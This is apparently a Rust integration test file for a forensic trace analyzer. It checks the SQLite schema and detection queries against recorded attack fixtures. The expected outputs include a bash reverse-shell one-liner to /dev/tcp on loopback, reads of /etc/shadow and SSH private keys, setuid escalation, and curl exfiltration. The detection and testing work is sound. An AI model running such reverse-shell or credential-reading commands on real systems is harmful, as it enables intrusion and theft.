//! `analyzer ingest` and `analyzer query` end to end on the recorded fixtures: the schema
//! (tables, indexes, foreign keys), every canned query's real answer, output formats,
//! clear errors, and read-only enforcement.

mod common;
use common::{analyzer, text};

use rewind_schema::builder::TraceBuilder;
use rewind_schema::wire::{self, Payload, Sock};
use rewind_schema::EventKind;
use serde_json::Value;
use std::collections::HashMap;
use std::path::{Path, PathBuf};

use std::sync::{Mutex, OnceLock};

fn scratch() -> &'static Path {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    DIR.get_or_init(|| tempfile::tempdir().expect("tempdir"))
        .path()
}

/// The database of a fixture (`fixtures/NAME.zst`, or a path), ingested once per run.
fn db(fixture: &str) -> PathBuf {
    static DBS: OnceLock<Mutex<HashMap<String, PathBuf>>> = OnceLock::new();
    let mut map = DBS
        .get_or_init(Default::default)
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    if let Some(p) = map.get(fixture) {
        return p.clone();
    }
    let input = if fixture.contains('/') {
        fixture.to_string()
    } else {
        format!("fixtures/{fixture}.zst")
    };
    let out = scratch().join(format!("{}.db", fixture.replace('/', "_")));
    let o = analyzer(&["ingest", "-q", &input, "-o", &out.to_string_lossy()]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "ingest {input}: {}",
        text(&o.stderr)
    );
    map.insert(fixture.to_string(), out.clone());
    out
}

/// Runs a query with `--json` and returns its rows.
fn rows(fixture: &str, query: &str, params: &[&str]) -> Vec<Value> {
    let db = db(fixture);
    let dbs = db.to_string_lossy();
    let mut args = vec!["query", "--json", &dbs, query];
    for p in params {
        args.push("--param");
        args.push(p);
    }
    let o = analyzer(&args);
    assert_eq!(o.status.code(), Some(0), "{query}: {}", text(&o.stderr));
    let v: Value = serde_json::from_slice(&o.stdout).expect("json array");
    v.as_array().expect("array").clone()
}

fn s<'a>(row: &'a Value, col: &str) -> &'a str {
    row[col]
        .as_str()
        .unwrap_or_else(|| panic!("{col} not text in {row}"))
}

fn i(row: &Value, col: &str) -> i64 {
    row[col]
        .as_i64()
        .unwrap_or_else(|| panic!("{col} not integer in {row}"))
}

fn column<'a>(rows: &'a [Value], col: &str) -> Vec<&'a str> {
    rows.iter().map(|r| s(r, col)).collect()
}

// ---------------------------------------------------------------- schema

#[test]
fn schema_has_every_table_index_and_clean_foreign_keys() {
    let conn =
        rewind_analyzer::sql::engine::connection(Some(db("reverse-shell").as_ref())).expect("open");
    let names = |kind: &str| -> Vec<String> {
        let mut st = conn
            .prepare("SELECT name FROM sqlite_schema WHERE type = ?1 AND name NOT LIKE 'sqlite_%' ORDER BY name")
            .expect("prepare");
        st.query_map([kind], |r| r.get(0))
            .expect("query")
            .collect::<Result<_, _>>()
            .expect("rows")
    };
    let tables = names("table");
    for t in [
        "boots",
        "connections",
        "dns",
        "events",
        "execs",
        "files",
        "http",
        "listeners",
        "losses",
        "meta",
        "namespaces",
        "privileges",
        "processes",
        "recordings",
        "tls",
    ] {
        assert!(
            tables.iter().any(|x| x == t),
            "missing table {t}: {tables:?}"
        );
    }
    let indexes = names("index");
    for ix in [
        "events_process",
        "events_conn",
        "files_path",
        "processes_parent",
        "dns_name",
    ] {
        assert!(
            indexes.iter().any(|x| x == ix),
            "missing index {ix}: {indexes:?}"
        );
    }
    assert!(
        rewind_analyzer::sql::foreign_key_problems(&conn)
            .expect("check")
            .is_empty(),
        "foreign key violations"
    );
    // Every event is there, and every process row's parent exists.
    let count = |sql: &str| -> i64 { conn.query_row(sql, [], |r| r.get(0)).expect(sql) };
    let events: String = conn
        .query_row("SELECT value FROM meta WHERE key = 'events'", [], |r| {
            r.get(0)
        })
        .expect("meta");
    let records: String = conn
        .query_row("SELECT value FROM meta WHERE key = 'records'", [], |r| {
            r.get(0)
        })
        .expect("meta records");
    assert_eq!(count("SELECT count(*) FROM events").to_string(), records);
    assert_eq!(
        count("SELECT count(*) FROM events WHERE type NOT IN ('process_snapshot', 'loss')")
            .to_string(),
        events
    );
    assert_eq!(count("SELECT count(*) FROM events"), 187);
    assert_eq!(
        count("SELECT count(*) FROM execs"),
        count("SELECT count(*) FROM events WHERE type = 'exec'")
    );
    assert_eq!(
        count("SELECT count(*) FROM processes p JOIN events e ON e.process_id = p.id WHERE e.pid <> p.pid AND e.type <> 'process_snapshot'"),
        0
    );
    let time: String = conn
        .query_row("SELECT time FROM events ORDER BY id LIMIT 1", [], |r| {
            r.get(0)
        })
        .expect("time");
    assert!(
        time.starts_with("2026-11-25T18:05:03.") && time.ends_with('Z'),
        "{time}"
    );
}

#[test]
fn foreign_key_check_catches_a_dangling_row() {
    // The check the schema test relies on can fail: break a copy and see it.
    let copy = scratch().join("broken.db");
    std::fs::copy(db("reverse-shell"), &copy).expect("copy");
    let conn = rewind_analyzer::sql::engine::connection(Some(copy.as_ref())).expect("open");
    conn.execute_batch("PRAGMA foreign_keys=OFF")
        .expect("pragma");
    conn.execute("UPDATE events SET process_id = 999999 WHERE id = 1", [])
        .expect("update");
    let bad = rewind_analyzer::sql::foreign_key_problems(&conn).expect("check");
    assert_eq!(bad.len(), 1, "{bad:?}");
    assert!(bad[0].starts_with("events row 1 -> processes"), "{bad:?}");
}

#[test]
fn range_check_of_foreign_keys_agrees_with_the_full_check() {
    // Ingest trusts the range check when it says the keys hold: it must say so on a
    // sound database and refuse every kind of dangling or odd reference.
    let fresh =
        rewind_analyzer::sql::engine::connection(Some(db("reverse-shell").as_ref())).expect("open");
    assert!(rewind_analyzer::sql::foreign_keys_hold_by_range(&fresh).expect("check"));
    drop(fresh);
    let breakages = [
        // Past the end, before the start, of another type, inside a hole of the parent.
        "UPDATE events SET process_id = 999999 WHERE id = 1",
        "UPDATE files SET event_id = -5 WHERE rowid = (SELECT min(rowid) FROM files)",
        "UPDATE events SET conn_id = 'x' WHERE id = 2",
        "UPDATE events SET related_id = 2.5 WHERE id = 3",
        "DELETE FROM processes WHERE id = 3",
    ];
    for (i, sql) in breakages.iter().enumerate() {
        let copy = scratch().join(format!("range{i}.db"));
        std::fs::copy(db("reverse-shell"), &copy).expect("copy");
        let conn = rewind_analyzer::sql::engine::connection(Some(copy.as_ref())).expect("open");
        conn.execute_batch("PRAGMA foreign_keys=OFF")
            .expect("pragma");
        conn.execute(sql, []).expect(sql);
        assert!(
            !rewind_analyzer::sql::foreign_keys_hold_by_range(&conn).expect("check"),
            "range check missed: {sql}"
        );
        // A hole in a parent's keys is not a violation by itself: the full check
        // decides then. The other breakages are violations it names.
        if !sql.starts_with("DELETE") {
            assert!(
                !rewind_analyzer::sql::foreign_key_problems(&conn)
                    .expect("check")
                    .is_empty(),
                "{sql}"
            );
        }
    }
}

#[test]
fn foreign_keys_proven_from_what_was_sent_refuse_bad_ranges() {
    // An ingest proves the keys of the tables it streamed from the values it sent
    // (lowest, highest, non-integers) rather than reading them back.
    use rewind_analyzer::sql::rows::{ColumnRange, ColumnRanges};
    let conn =
        rewind_analyzer::sql::engine::connection(Some(db("reverse-shell").as_ref())).expect("open");
    let (first, processes): (i64, i64) = conn
        .query_row("SELECT min(id), max(id) FROM processes", [], |r| {
            Ok((r.get(0)?, r.get(1)?))
        })
        .expect("ids");
    let hold = |r: ColumnRange| {
        let mut known = ColumnRanges::new();
        known.insert(("events".into(), "process_id".into()), r);
        rewind_analyzer::sql::foreign_keys_hold_with(&conn, &known).expect("check")
    };
    let sound = ColumnRange {
        lo: 1,
        hi: processes,
        ints: 10,
        others: 0,
    };
    assert!(hold(sound));
    assert!(
        hold(ColumnRange {
            ints: 0,
            ..Default::default()
        }),
        "all NULL"
    );
    assert!(
        !hold(ColumnRange {
            hi: processes + 1,
            ..sound
        }),
        "past the end"
    );
    assert!(
        !hold(ColumnRange {
            lo: first - 1,
            ..sound
        }),
        "before the start"
    );
    assert!(!hold(ColumnRange { others: 1, ..sound }), "a text or real");
}

#[test]
fn ingest_refuses_to_overwrite_and_leaves_no_temp_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("t.db");
    let outs = out.to_string_lossy().into_owned();
    std::fs::write(&out, b"precious").expect("write");
    let o = analyzer(&["ingest", "-q", "fixtures/memfd-exec.zst", "-o", &outs]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("already exists"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(std::fs::read(&out).expect("read"), b"precious");
    let o = analyzer(&[
        "ingest",
        "fixtures/memfd-exec.zst",
        "-o",
        &outs,
        "--force",
        "-v",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("rows/s"), "{}", text(&o.stderr));
    assert!(rewind_analyzer::sql::is_sqlite_file(&out));
    let files: Vec<_> = std::fs::read_dir(dir.path())
        .expect("ls")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(files, vec![std::ffi::OsString::from("t.db")]);
    // A bad input fails and leaves nothing behind either.
    let bad = dir.path().join("bad.db");
    let o = analyzer(&["ingest", "-q", "Cargo.toml", "-o", &bad.to_string_lossy()]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(std::fs::read_dir(dir.path()).expect("ls").count(), 1);
}

// ---------------------------------------------------------------- canned queries

#[test]
fn list_shows_every_canned_query_with_its_description() {
    let o = analyzer(&["query", "--list"]);
    assert_eq!(o.status.code(), Some(0));
    let out = text(&o.stdout);
    for c in rewind_analyzer::sql::query::CANNED {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{} ", c.name)))
            .unwrap_or_else(|| panic!("{} not listed:\n{out}", c.name));
        assert!(line.contains(c.description()), "{line}");
    }
    assert!(
        out.contains("exec_tree") && out.contains("--param pid="),
        "{out}"
    );
}

#[test]
fn exec_tree_of_the_reverse_shell() {
    let r = rows("reverse-shell", "exec_tree", &["pid=16033"]);
    let by = |rel: &str| -> Vec<String> {
        r.iter()
            .filter(|x| s(x, "relation") == rel)
            .map(|x| format!("{} {}", s(x, "name"), s(x, "cmdline")))
            .collect()
    };
    assert_eq!(
        by("suspect"),
        vec![
            "sh /bin/sh -c echo rendering report x; bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/14444 0>&1'; echo report done",
            "bash bash -c exec bash -i >& /dev/tcp/127.0.0.1/14444 0>&1",
            "bash bash -i",
        ]
    );
    let anc = by("ancestor");
    assert!(
        anc.contains(
            &"python3 /usr/bin/python3 /tmp/rewind-revshell.bekE3n/webapp.py 14444".to_string()
        ),
        "{anc:?}"
    );
    let desc: Vec<String> = r
        .iter()
        .filter(|x| s(x, "relation") == "descendant" && s(x, "origin") == "exec")
        .map(|x| s(x, "cmdline").to_string())
        .collect();
    assert_eq!(desc, vec!["id", "uname -a", "cat /etc/passwd"]);
    // Start order, and nothing outside the tree (the attacker listener is a sibling).
    assert!(!r.iter().any(|x| s(x, "cmdline").contains("attacker.py")));
    let starts = column(&r, "start_time");
    assert!(starts.windows(2).all(|w| w[0] <= w[1]));
}

#[test]
fn exec_shell_network_finds_the_reverse_shell_only() {
    let r = rows("reverse-shell", "exec_shell_network", &[]);
    assert_eq!(r.len(), 1, "{r:?}");
    let x = &r[0];
    assert_eq!(s(x, "cmdline"), "bash -i");
    assert_eq!(i(x, "pid"), 16033);
    assert_eq!(s(x, "parent_name"), "sh");
    assert_eq!(i(x, "network_parent"), 1);
    assert_eq!(i(x, "socket_stdio"), 1);
    assert_eq!(i(x, "tty"), 0);
    assert_eq!(s(x, "socket_remote"), "127.0.0.1:14444");
    // nc -e in the synthetic trace: shells under a service that accepted and under nc.
    let r = rows("fixtures/synthetic/", "exec_shell_network", &[]);
    let got: Vec<(i64, &str)> = r
        .iter()
        .map(|x| (i(x, "pid"), s(x, "parent_name")))
        .collect();
    assert_eq!(got, vec![(4242, "webapp"), (4244, "nc")]);
    // Silent on a build.
    assert!(rows("benign-build", "exec_shell_network", &[]).is_empty());
}

#[test]
fn net_destinations_of_curl() {
    let r = rows("http-redirect-tls", "net_destinations", &[]);
    let got: Vec<(String, i64, i64, i64, i64)> = r
        .iter()
        .map(|x| {
            (
                format!(
                    "{} {}:{}",
                    s(x, "name"),
                    s(x, "remote_addr"),
                    i(x, "remote_port")
                ),
                i(x, "connections"),
                i(x, "bytes_sent"),
                i(x, "bytes_received"),
                i(x, "failed"),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("curl 127.0.0.1:18080".into(), 2, 168, 287, 0),
            ("curl 127.0.0.1:18443".into(), 1, 448, 6323, 0),
            ("curl 127.0.0.1:18444".into(), 1, 597, 2589, 0),
        ]
    );
}

#[test]
fn file_sensitive_shadow_keys_and_cron() {
    let r = rows("sensitive-files", "file_sensitive", &[]);
    let shadow: Vec<&Value> = r.iter().filter(|x| s(x, "path") == "/etc/shadow").collect();
    assert_eq!(shadow.len(), 1, "{r:?}");
    assert_eq!(s(shadow[0], "exe"), "/usr/bin/cat");
    assert_eq!(s(shadow[0], "access"), "read");
    assert_eq!(s(shadow[0], "category"), "password hashes");
    assert_eq!(i(shadow[0], "ok"), 1);
    let key_reads: Vec<&str> = r
        .iter()
        .filter(|x| s(x, "path").ends_with("/.ssh/id_rsa") && x["access"] == "read")
        .map(|x| s(x, "name"))
        .collect();
    assert_eq!(key_reads, vec!["cat"]);
    // Reads of /etc/passwd by every libc user lookup are not "sensitive".
    assert!(!r.iter().any(|x| s(x, "path") == "/etc/passwd"));
    let r = rows("persistence", "file_sensitive", &[]);
    let cron: Vec<(&str, &str)> = r
        .iter()
        .filter(|x| s(x, "category") == "cron")
        .map(|x| (s(x, "name"), s(x, "op")))
        .collect();
    assert_eq!(
        cron,
        vec![("tee", "open"), ("chmod", "chmod"), ("rm", "unlink")]
    );
    assert!(r.iter().any(|x| s(x, "category") == "ssh authorized keys"));
    assert!(rows("benign-build", "file_sensitive", &[]).is_empty());
}

#[test]
fn exec_from_writable_dirs_setuid_copies_and_memfd() {
    let r = rows("setuid-escalation", "exec_from_writable_dirs", &[]);
    let got: Vec<(&str, &str, i64, i64)> = r
        .iter()
        .map(|x| {
            (
                s(x, "name"),
                s(x, "location"),
                i(x, "euid"),
                i(x, "setid_exe"),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![("id-suid", "/tmp", 0, 1), ("env-suid", "/tmp", 0, 1)]
    );
    let r = rows("memfd-exec", "exec_from_writable_dirs", &[]);
    assert_eq!(r.len(), 1);
    assert_eq!(s(&r[0], "location"), "memfd");
    assert_eq!(s(&r[0], "cmdline"), "echo fileless-hello");
    assert_eq!(s(&r[0], "parent_name"), "python3");
}

#[test]
fn cred_transitions_euid_to_root_and_drops() {
    let r = rows("setuid-escalation", "cred_transitions", &[]);
    let root: Vec<(&str, i64, i64, i64)> = r
        .iter()
        .filter(|x| i(x, "gained_root") == 1)
        .map(|x| {
            (
                s(x, "name"),
                i(x, "new_uid"),
                i(x, "old_euid"),
                i(x, "new_euid"),
            )
        })
        .collect();
    assert_eq!(
        root,
        vec![("id-suid", 65534, 65534, 0), ("env-suid", 65534, 65534, 0)]
    );
    assert!(r
        .iter()
        .all(|x| i(x, "gained_root") == 0 || s(x, "how") == "exec set-id binary"));
    let py: Vec<(&str, i64, i64)> = r
        .iter()
        .filter(|x| s(x, "name") == "python3")
        .map(|x| (s(x, "how"), i(x, "old_uid"), i(x, "new_uid")))
        .collect();
    assert_eq!(py, vec![("setgid", 0, 0), ("setuid", 0, 65534)]);
    assert!(r
        .iter()
        .any(|x| s(x, "how") == "capset" && x["caps_gained"].is_string()));
    assert!(rows("benign-build", "cred_transitions", &[]).is_empty());
}

#[test]
fn net_listeners_of_the_attacker() {
    let r = rows("reverse-shell", "net_listeners", &[]);
    assert_eq!(r.len(), 1);
    assert_eq!(s(&r[0], "name"), "python3");
    assert!(s(&r[0], "cmdline").contains("attacker.py"));
    assert_eq!(s(&r[0], "local_addr"), "127.0.0.1");
    assert_eq!(i(&r[0], "port"), 14444);
    assert_eq!(i(&r[0], "accepted"), 1);
    let r = rows("lateral-movement", "net_listeners", &[]);
    let ports: Vec<i64> = r.iter().map(|x| i(x, "port")).collect();
    assert_eq!(ports, vec![18082, 18081]);
}

#[test]
fn net_top_talkers_of_the_exfiltration() {
    let r = rows("lateral-movement", "net_top_talkers", &[]);
    let got: Vec<(&str, i64, i64)> = r
        .iter()
        .map(|x| (s(x, "name"), i(x, "bytes_sent"), i(x, "bytes_received")))
        .collect();
    assert_eq!(
        got,
        vec![
            ("python3", 119, 28881),
            ("curl", 28881, 119),
            ("python3", 28883, 100),
            ("curl", 100, 28883),
        ]
    );
    assert!(s(&r[0], "cmdline").contains("exfil_sink.py"));
    assert!(s(&r[1], "cmdline").contains("--data-binary"));
}

#[test]
fn net_tls_weak_flags_the_tls10_rsa_handshake() {
    let r = rows("http-redirect-tls", "net_tls_weak", &[]);
    let got: Vec<(i64, i64, &str, &str, i64)> = r
        .iter()
        .map(|x| {
            (
                i(x, "remote_port").max(i(x, "local_port")),
                i(x, "weak"),
                s(x, "version_name"),
                s(x, "cipher_name"),
                i(x, "local_port"),
            )
        })
        .map(|(p, w, v, c, _)| (p.min(18444), w, v, c, 0))
        .collect();
    assert_eq!(r.len(), 4, "{r:?}");
    assert_eq!(got[0].1, 1);
    assert_eq!(got[0].2, "TLS 1.0");
    assert_eq!(got[0].3, "TLS_RSA_WITH_AES_128_CBC_SHA");
    assert!(s(&r[0], "weaknesses").contains("no forward secrecy"));
    assert_eq!(i(&r[0], "remote_port"), 18444);
    assert_eq!((got[2].1, got[2].2), (0, "TLS 1.3"));
    assert!(r[2]["weaknesses"].is_null());
}

#[test]
fn net_http_redirect_then_ok() {
    let r = rows("http-redirect-tls", "net_http", &[]);
    let got: Vec<(&str, &str, i64, Option<&str>)> = r
        .iter()
        .map(|x| {
            (
                s(x, "method"),
                s(x, "path"),
                i(x, "status"),
                x["location"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("GET", "/start", 302, Some("/final")),
            ("GET", "/final", 200, None)
        ]
    );
    assert!(r
        .iter()
        .all(|x| s(x, "name") == "curl" && i(x, "latency_ns") > 0));
}

#[test]
fn kernel_namespaces_of_the_container() {
    let r = rows("container", "kernel_namespaces", &[]);
    let unshare = r.iter().find(|x| s(x, "op") == "unshare").expect("unshare");
    let changed: Vec<&str> = s(unshare, "changed").split(',').collect();
    for ns in ["mnt", "pid", "net", "uts", "ipc", "cgroup"] {
        assert!(changed.contains(&ns), "{changed:?}");
    }
    assert!(s(unshare, "container_id").starts_with("c3ce1af02139"));
    assert!(r
        .iter()
        .any(|x| s(x, "op") == "mount" && x["target"] == "/proc" && x["fstype"] == "proc"));
}

#[test]
fn loss_windows_of_the_synthetic_trace() {
    let r = rows("fixtures/synthetic/", "loss_windows", &[]);
    assert_eq!(r.len(), 1);
    assert_eq!((i(&r[0], "cpu"), i(&r[0], "lost")), (1, 17));
    assert_eq!(s(&r[0], "start_time"), "2026-01-15T09:02:09.000000000Z");
}

/// A trace where a process resolves a name and then connects to the answer.
fn dns_trace(dir: &Path) -> PathBuf {
    use simple_dns::{rdata::RData, Name, Packet, Question, ResourceRecord, CLASS, QCLASS};
    let path = dir.join("dns.zst");
    let mut b = TraceBuilder::new(&path)
        .existing(700, 1, "/usr/bin/updater", &["updater", "--check"], 1000)
        .create()
        .expect("create");
    let t = b.start_ns() + 1_000_000_000;
    let local: std::net::SocketAddr = "10.0.0.2:5353".parse().expect("addr");
    let resolver: std::net::SocketAddr = "127.0.0.53:53".parse().expect("addr");
    let mut q = Packet::new_query(42);
    q.questions.push(Question::new(
        Name::new_unchecked("updates.example.com"),
        simple_dns::TYPE::A.into(),
        QCLASS::CLASS(CLASS::IN),
        false,
    ));
    let mut a = Packet::new_reply(42);
    a.questions = q.questions.clone();
    a.answers.push(ResourceRecord::new(
        Name::new_unchecked("updates.example.com"),
        CLASS::IN,
        60,
        RData::A(simple_dns::rdata::A {
            address: u32::from(std::net::Ipv4Addr::new(203, 0, 113, 9)),
        }),
    ));
    for (k, (pkt, flags)) in [(q, 0), (a, wire::net::SNIPPET_INBOUND)]
        .into_iter()
        .enumerate()
    {
        let data = pkt.build_bytes_vec().expect("dns bytes");
        let sn = wire::Snippet {
            sock: Sock::udp(77, local, resolver),
            total_len: data.len() as u32,
            flags,
            data: Payload(data),
        };
        b.event(t + k as u64 * 1_000, 700, EventKind::Dns(sn))
            .expect("dns");
    }
    let l: std::net::SocketAddr = "10.0.0.2:41000".parse().expect("addr");
    let r: std::net::SocketAddr = "203.0.113.9:443".parse().expect("addr");
    let o: std::net::SocketAddr = "198.51.100.1:443".parse().expect("addr");
    b.connect(t + 10_000, 700, 88, l, r, 0).expect("connect");
    b.close(t + 90_000, 700, 88, l, r, 700, 9000, 80_000)
        .expect("close");
    // An address nobody resolved.
    b.connect(t + 100_000, 700, 89, l, o, 0).expect("connect");
    b.finish().expect("finish");
    path
}

#[test]
fn net_dns_contacted_joins_answers_to_connections() {
    let dir = tempfile::tempdir().expect("tempdir");
    let trace = dns_trace(dir.path());
    let r = rows(&trace.to_string_lossy(), "net_dns_contacted", &[]);
    assert_eq!(r.len(), 1, "{r:?}");
    let x = &r[0];
    assert_eq!(s(x, "name"), "updates.example.com");
    assert_eq!(s(x, "address"), "203.0.113.9");
    assert_eq!(s(x, "process"), "updater");
    assert_eq!(s(x, "resolver_name"), "updater");
    assert_eq!(
        (
            i(x, "remote_port"),
            i(x, "bytes_sent"),
            i(x, "bytes_received")
        ),
        (443, 700, 9000)
    );
    // The dns table holds the question and the answer.
    let d = analyzer(&[
        "query",
        "--csv",
        &trace.to_string_lossy(),
        "SELECT section, name, type, value FROM dns ORDER BY id",
    ]);
    assert_eq!(d.status.code(), Some(0), "{}", text(&d.stderr));
    assert_eq!(
        text(&d.stdout),
        "section,name,type,value\nquestion,updates.example.com,A,\nquestion,updates.example.com,A,\nanswer,updates.example.com,A,203.0.113.9\n"
    );
}

#[test]
fn every_canned_query_runs_on_every_fixture() {
    for f in [
        "benign-build",
        "container",
        "http-redirect-tls",
        "lateral-movement",
        "memfd-exec",
        "persistence",
        "reverse-shell",
        "sensitive-files",
        "setuid-escalation",
    ] {
        for c in rewind_analyzer::sql::query::CANNED {
            let params: Vec<&str> = if c.params().is_empty() {
                vec![]
            } else {
                vec!["pid=1"]
            };
            rows(f, c.name, &params);
        }
    }
}

// ---------------------------------------------------------------- formats, inputs, errors

#[test]
fn text_json_csv_agree_and_trace_input_equals_db_input() {
    let dbp = db("http-redirect-tls");
    let dbs = dbp.to_string_lossy();
    let t = analyzer(&["query", &dbs, "net_destinations"]);
    assert_eq!(t.status.code(), Some(0));
    let out = text(&t.stdout);
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].starts_with("exec_id ") && lines[1].starts_with("----"),
        "{out}"
    );
    assert_eq!(lines.last(), Some(&"(3 rows)"));
    let c = analyzer(&["query", "--csv", &dbs, "net_destinations"]);
    let mut rd = csv::Reader::from_reader(c.stdout.as_slice());
    assert_eq!(rd.records().count(), 3);
    // Straight from the trace (ingested in memory): the same answer.
    let tr = analyzer(&[
        "query",
        "-q",
        "fixtures/http-redirect-tls.zst",
        "net_destinations",
    ]);
    assert_eq!(tr.status.code(), Some(0), "{}", text(&tr.stderr));
    assert_eq!(text(&tr.stdout), out);
}

#[test]
fn bad_sql_unknown_names_and_params_are_clear_errors() {
    let dbp = db("reverse-shell");
    let dbs = dbp.to_string_lossy();
    let cases: [(&[&str], &str); 6] = [
        (&["query", &dbs, "SELEC * FROM processes"], "syntax error"),
        (
            &["query", &dbs, "SELECT * FROM nope"],
            "no such table: nope",
        ),
        (
            &["query", &dbs, "no_such_query"],
            "unknown query \"no_such_query\"",
        ),
        (&["query", &dbs, "exec_tree"], "--param pid=VALUE"),
        (
            &["query", &dbs, "net_listeners", "--param", "pid=1"],
            "--param pid",
        ),
        (&["query", "fixtures/nope.zst", "exec_tree"], "nope.zst"),
    ];
    for (args, want) in cases {
        let o = analyzer(args);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", text(&o.stderr));
        let err = text(&o.stderr);
        assert!(err.contains(want), "{args:?}: {err}");
        assert!(o.stdout.is_empty(), "{args:?}");
    }
    // The error names the query it came from.
    let o = analyzer(&["query", &dbs, "exec_tree"]);
    assert!(
        text(&o.stderr).contains("query exec_tree"),
        "{}",
        text(&o.stderr)
    );
    // Usage errors are clap's (2).
    assert_eq!(analyzer(&["query"]).status.code(), Some(2));
}

#[test]
fn ad_hoc_sql_cannot_modify_the_database() {
    let copy = scratch().join("readonly.db");
    std::fs::copy(db("reverse-shell"), &copy).expect("copy");
    let cs = copy.to_string_lossy().into_owned();
    let before = std::fs::read(&copy).expect("read");
    let evil = scratch().join("evil.db");
    let attach = format!("ATTACH '{}' AS e", evil.display());
    let attach_mem = "ATTACH ':memory:' AS e".to_string();
    let vacuum = format!("VACUUM INTO '{}'", evil.display());
    let attempts = [
        "INSERT INTO meta (key, value) VALUES ('x', 'y')",
        "UPDATE processes SET exe = 'x'",
        "DELETE FROM events",
        "DROP TABLE events",
        "CREATE TABLE t (a)",
        "CREATE INDEX t ON events(tid)",
        "ALTER TABLE events ADD COLUMN x",
        "PRAGMA query_only=0",
        "PRAGMA query_only(0)",
        "PRAGMA query_only = 0; DELETE FROM events",
        "PRAGMA writable_schema = 1",
        "PRAGMA journal_mode = DELETE",
        "SELECT 1; DELETE FROM events",
        "WITH x AS (SELECT 1) DELETE FROM events",
        "REPLACE INTO meta (key, value) VALUES ('events', '0')",
        "VACUUM",
        &vacuum,
        &attach,
        &attach_mem,
        "BEGIN IMMEDIATE",
        "REINDEX events_ts",
        "ANALYZE",
    ];
    for sql in attempts {
        let o = analyzer(&["query", &cs, sql]);
        assert_ne!(o.status.code(), Some(0), "{sql} was allowed");
        assert!(!text(&o.stderr).is_empty(), "{sql}: no error message");
    }
    assert!(!evil.exists(), "a file was created");
    assert_eq!(
        std::fs::read(&copy).expect("read"),
        before,
        "database bytes changed"
    );
    assert!(!scratch().join("readonly.db-journal").exists());
    // Reading still works, and a trace input is read-only too.
    let o = analyzer(&["query", &cs, "SELECT count(*) AS n FROM events"]);
    assert_eq!(o.status.code(), Some(0));
    let o = analyzer(&[
        "query",
        "-q",
        "fixtures/memfd-exec.zst",
        "DELETE FROM events",
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stderr).contains("read-only"), "{}", text(&o.stderr));
}

#[test]
fn a_full_database_fails_the_ingest_clearly() {
    // SQLite refusing rows mid-way (here: a page limit standing in for a full disk) must
    // end the ingest with SQLite's error, not hang the replay thread that feeds the
    // inserting one nor pass it off as success.
    let trace = scratch().join("many-opens.zst");
    let mut b = TraceBuilder::new(&trace).create().expect("create");
    let mut ts = b.start_ns() + 1_000;
    let long = "x".repeat(300);
    for i in 0..50_000u32 {
        ts += 1_000;
        b.open(ts, 4242, &format!("/var/lib/{long}/{i}"), 0, 3)
            .expect("open");
    }
    b.finish().expect("finish");
    let set = rewind_schema::trace::TraceSet::open(&[&trace]).expect("set");
    let path = scratch().join("full.db");
    let mut conn = rewind_analyzer::sql::engine::connection(Some(path.as_ref())).expect("db");
    // 60 pages of 64 KiB: the schema fits, 50 000 rows with long paths do not.
    conn.execute_batch("PRAGMA max_page_count=60")
        .expect("pragma");
    let err = rewind_analyzer::sql::ingest(
        &mut conn,
        &set,
        rewind_analyzer::replay::ReplayOptions::default(),
    )
    .expect_err("the database is full");
    let text = format!("{err:#}");
    assert!(text.contains("full"), "{text}");
    assert!(!text.contains("creating the schema"), "{text}");
}

/// Non-blocking connects (EINPROGRESS) take their outcome from the kernel's
/// `conn_result`: refused, timed out and established ones each say so in the timeline,
/// the connections table and the tree's failure count; one without a result stays "in
/// progress" and is never shown as connected.
#[test]
fn non_blocking_connects_show_the_kernels_outcome() {
    const MS: u64 = 1_000_000;
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("t.zst");
    let mut b = TraceBuilder::new(&p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .create()
        .expect("create");
    let t = b.start_ns() + 1000 * MS;
    b.fork(t, 1, 70).expect("fork");
    b.exec(
        t + MS,
        70,
        1,
        "/usr/bin/curl",
        &["curl", "https://127.0.0.1:1"],
    )
    .expect("exec");
    let addr = |s: &str| -> std::net::SocketAddr { s.parse().expect("addr") };
    let me = |port: u16| addr(&format!("127.0.0.1:{port}"));
    // refused, timed out, established, unknown, and a blocking refused one
    b.connect(t + 2 * MS, 70, 21, me(40001), addr("127.0.0.1:1"), -115)
        .expect("connect");
    b.conn_result(
        t + 3 * MS,
        70,
        21,
        me(40001),
        addr("127.0.0.1:1"),
        Some(111),
        MS,
    )
    .expect("result");
    b.connect(t + 4 * MS, 70, 22, me(40002), addr("127.0.0.1:2"), -115)
        .expect("connect");
    b.conn_result(
        t + 5 * MS,
        70,
        22,
        me(40002),
        addr("127.0.0.1:2"),
        Some(110),
        MS,
    )
    .expect("result");
    b.connect(t + 6 * MS, 70, 23, me(40003), addr("127.0.0.1:3"), -115)
        .expect("connect");
    b.conn_result(t + 7 * MS, 70, 23, me(40003), addr("127.0.0.1:3"), None, MS)
        .expect("result");
    b.close(
        t + 8 * MS,
        70,
        23,
        me(40003),
        addr("127.0.0.1:3"),
        10,
        20,
        2 * MS,
    )
    .expect("close");
    b.connect(t + 9 * MS, 70, 24, me(40004), addr("127.0.0.1:4"), -115)
        .expect("connect");
    b.connect(t + 10 * MS, 70, 25, me(40005), addr("127.0.0.1:5"), -111)
        .expect("connect");
    b.conn_result(
        t + 10 * MS,
        70,
        25,
        me(40005),
        addr("127.0.0.1:5"),
        Some(111),
        0,
    )
    .expect("result");
    b.exit(t + 20 * MS, 70, 0).expect("exit");
    b.finish().expect("finish");
    let trace = p.to_string_lossy().into_owned();

